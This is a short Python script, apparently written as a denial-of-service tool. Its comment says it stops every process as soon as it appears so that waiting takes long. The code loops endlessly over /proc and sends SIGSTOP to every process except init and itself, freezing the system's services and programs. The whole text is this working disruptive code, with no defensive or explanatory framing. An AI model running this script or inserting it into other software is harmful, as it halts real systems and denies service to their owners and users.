# Stops every process as soon as it can be seen, so that whoever waits for one waits long.
import os, signal

own = os.getpid()
while True:
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (1, own):
            try:
                os.kill(int(name), signal.SIGSTOP)
            except OSError:
                pass
